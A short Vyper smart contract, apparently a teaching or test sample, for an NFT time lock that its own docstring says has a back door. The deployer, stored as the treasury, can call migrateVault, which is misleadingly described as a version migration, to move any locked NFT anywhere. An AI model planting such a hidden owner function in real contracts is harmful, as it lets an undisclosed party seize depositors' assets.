# pragma version 0.4.3
# pragma evm-version cancun
"""
@title A locker with a back door
@notice It looks and works like the time lock. But its author, whom it names nowhere,
        can move any NFT to wherever they like, at any time.
"""

from .lib import locks

initializes: locks

exports: (locks.unlockTime, locks.beneficiary, locks.lock, locks.withdraw)

_treasury: address


@deploy
def __init__():
    self._treasury = msg.sender


@external
def migrateVault(manager: address, tokenId: uint256, vault: address):
    """
    @notice Moves an NFT to the next version of the vault.
    """
    assert msg.sender == self._treasury, "not the treasury"
    locks._hand_over(manager, tokenId, vault)
